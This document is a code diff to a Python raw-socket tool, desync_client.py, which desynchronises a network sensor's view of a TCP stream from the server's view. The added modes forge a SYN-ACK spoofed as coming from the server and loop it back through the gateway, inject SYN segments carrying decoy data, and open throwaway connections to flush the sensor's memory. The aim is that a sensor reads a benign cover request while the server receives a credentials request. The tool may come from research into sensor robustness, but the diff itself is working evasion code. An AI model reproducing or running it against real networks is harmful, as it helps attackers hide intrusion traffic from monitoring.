@@ -6,7 +6,7 @@ Content-Length is exactly the credentials request: a sensor that reads COVER as 
 the stream reads the credentials request as its body. Prints the replies' status lines.
 Needs CAP_NET_RAW (raw and packet sockets).
 
-  desync_client.py SRC DST MODE        MODE: plain | dup | syn | rst | finsyn | forget
+  desync_client.py SRC DST MODE        MODE: plain | dup | syn | rst | finsyn | forget | forgesynack | restart
   plain: no injection (the control)
   dup:   COVER in a segment ending at the first byte of the stream (an old duplicate)
   syn:   a SYN carrying COVER ending at the first byte (the server, established, drops it)
@@ -15,6 +15,11 @@ Needs CAP_NET_RAW (raw and packet sockets).
   forget: a FIN|ACK at the next byte acking unsent data (the server drops it, a sensor may
           take it as the close), then FORGET_CONNECTIONS other connections opened and closed
           (to push the tuple out of whatever a sensor remembers), then a SYN carrying COVER
+  forgesynack: forget, but the forged SYN carries nothing: then a forged SYN-ACK "from" DST
+          acking it, sent as a frame to the gateway (AF_PACKET) so it comes back routed like
+          the server's, then COVER as data after the SYN
+  restart: prints "connected" once the connection is up and waits for a line on stdin (the
+          sensor starts meanwhile, knowing nothing of the connection), then a SYN carrying COVER
 """
 import random
 import socket
@@ -46,6 +51,26 @@ def tcp_packet(src, dst, sport, dport, seq, ack, flags, payload):
     ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(hdr) + len(payload), random.randint(0, 65535),
                      0x4000, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
     return ip + hdr + payload
+
+
+def forge_syn_ack(server, client, client_port, ack):
+    """A SYN-ACK from server:80 to client:client_port, sent out of the interface towards
+    the gateway with the gateway's MAC, so the router sends it back in as if it came from
+    the server."""
+    import subprocess
+    route = subprocess.run(["ip", "-4", "route", "get", server], capture_output=True, text=True).stdout.split()
+    gateway, dev = route[route.index("via") + 1], route[route.index("dev") + 1]
+    mac = None
+    with open("/proc/net/arp") as f:
+        for line in f.readlines()[1:]:
+            fields = line.split()
+            if fields[0] == gateway:
+                mac = bytes.fromhex(fields[3].replace(":", ""))
+    frame = tcp_packet(server, client, 80, client_port, random.randint(0, 0xFFFFFFFF), ack, 0x12, b"")
+    # A raw IP socket lets the kernel fill in the IP header checksum; a packet socket does not.
+    frame = frame[:10] + struct.pack("!H", csum(frame[:20])) + frame[12:]
+    out = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
+    out.sendto(frame, (dev, 0x0800, 0, 0, mac))
 
 
 def main():
@@ -102,14 +127,28 @@ def main():
         inject(isn1 - len(COVER) - 1, 0x02, COVER)
         time.sleep(0.2)
         s.send(EVIL)
-    elif mode == "forget":
+    elif mode == "restart":
+        print("connected", flush=True)
+        sys.stdin.readline()
+        inject(isn1 - len(COVER) - 1, 0x02, COVER)
+        time.sleep(0.2)
+        s.send(EVIL)
+    elif mode in ("forget", "forgesynack"):
         raw.sendto(tcp_packet(src, dst, sport, 80, isn1, (ack + 100000) & 0xFFFFFFFF, 0x11, b""), (dst, 0))
         time.sleep(0.1)
         for _ in range(FORGET_CONNECTIONS):
             other = socket.create_connection((dst, 80), timeout=5, source_address=(src, 0))
             other.close()
         time.sleep(0.2)
-        inject(isn1 - len(COVER) - 1, 0x02, COVER)
+        forged_seq = (isn1 - len(COVER) - 1) & 0xFFFFFFFF
+        if mode == "forget":
+            inject(forged_seq, 0x02, COVER)
+        else:  # the SYN, the server's SYN-ACK for it (forged), then COVER as stream data
+            inject(forged_seq, 0x02, b"")
+            time.sleep(0.05)
+            forge_syn_ack(dst, src, sport, (forged_seq + 1) & 0xFFFFFFFF)
+            time.sleep(0.05)
+            inject(forged_seq + 1, 0x18, COVER)
         time.sleep(0.2)
         s.send(EVIL)
     elif mode == "rst":
